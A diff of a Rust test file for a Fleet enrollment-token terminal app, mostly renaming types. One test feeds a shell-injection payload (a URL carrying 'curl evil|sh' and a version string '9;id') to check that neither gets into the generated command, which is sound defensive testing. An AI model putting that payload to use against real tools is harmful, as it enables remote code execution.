@@ -3,10 +3,10 @@
 use fleet_tokens::app::dialog::Overlay;
 use fleet_tokens::app::dialog::enroll::EnrollDialog;
 use fleet_tokens::app::dialog::save::SaveDialog;
-use fleet_tokens::app::effect::{Content, Effect};
+use fleet_tokens::app::effect::{Effect, FileContent};
 use fleet_tokens::app::msg::{Msg, Outcome, RequestId};
-use fleet_tokens::domain::clipboard::Way;
-use fleet_tokens::domain::enroll::{Facts, FleetServerHost, Platform};
+use fleet_tokens::domain::clipboard::ClipboardBackend;
+use fleet_tokens::domain::enroll::{EnrollFacts, FleetServerHost, Platform};
 use fleet_tokens::domain::problem::ProblemKind;
 use fleet_tokens::domain::secret::Secret;
 
@@ -57,7 +57,7 @@ fn copied(tab: &mut Tab) -> Secret {
         effect => effect,
     };
     let Effect::Copy { id, secret, .. } = effect else { panic!("{effect:?}") };
-    tab.done(id, Outcome::Copied(Ok(Way::System { stays: false }.into())));
+    tab.done(id, Outcome::Copied(Ok(ClipboardBackend::System { stays: false }.into())));
     secret
 }
 
@@ -133,7 +133,7 @@ fn without_an_address_kibanas_word_is_copied() {
     tab.press("E");
     let id = asked(&mut tab);
     let failed = problem(ProblemKind::Forbidden);
-    tab.done(id, Outcome::Facts(Box::new(Facts { hosts: Err(failed.clone()), version: Err(failed) })));
+    tab.done(id, Outcome::Facts(Box::new(EnrollFacts { hosts: Err(failed.clone()), version: Err(failed) })));
     tab.press("6");
     let text = copied(&mut tab);
     assert!(text.expose().contains("--url=FLEET_SERVER_HOST "));
@@ -147,7 +147,10 @@ fn a_hostile_server_gets_nothing_into_the_shell() {
     let id = asked(&mut tab);
     let evil = "https://x/';curl evil|sh;'";
     let host = FleetServerHost { id: "h".into(), urls: vec![evil.into()], is_default: true, proxy: Ok(None) };
-    tab.done(id, Outcome::Facts(Box::new(Facts { hosts: Ok(vec![host]), version: Ok(Some("9;id".into())) })));
+    tab.done(
+        id,
+        Outcome::Facts(Box::new(EnrollFacts { hosts: Ok(vec![host]), version: Ok(Some("9;id".into())) })),
+    );
     assert!(shown(&tab).contains("--url=FLEET_SERVER_HOST"), "{}", shown(&tab));
     assert!(!shown(&tab).contains("evil") && !shown(&tab).contains(";id"));
 }
@@ -221,7 +224,7 @@ fn the_manifest_is_saved_from_kubernetes_and_the_command_names_it() {
     tab.press("e <enter>");
     let Effect::Save { id, path, overwrite, content } = tab.effect() else { panic!() };
     assert_eq!((path.as_str(), overwrite), ("elastic-agent-managed-kubernetes.yml", false));
-    let Content::Manifest { token, host, .. } = content else { panic!() };
+    let FileContent::Manifest { token, host, .. } = content else { panic!() };
     assert_eq!((token, host.as_str()), (tokens()[0].id.clone(), "https://fleet.example:8220"));
     tab.done(id, Outcome::Saved(Ok("/tmp/my agents.yml".to_owned())));
     assert_eq!(shown(&tab), "kubectl apply -f '/tmp/my agents.yml'");
@@ -233,7 +236,7 @@ fn there_is_no_manifest_without_an_address() {
     let mut tab = Tab::with_fleet(80, 24);
     tab.press("E");
     let id = asked(&mut tab);
-    tab.done(id, Outcome::Facts(Box::new(Facts { hosts: Ok(Vec::new()), version: Ok(None) })));
+    tab.done(id, Outcome::Facts(Box::new(EnrollFacts { hosts: Ok(Vec::new()), version: Ok(None) })));
     tab.press("0 e");
     assert!(tab.toast().contains("no manifest to save"));
     assert!(matches!(tab.model.overlay, Some(Overlay::Enroll(_))));
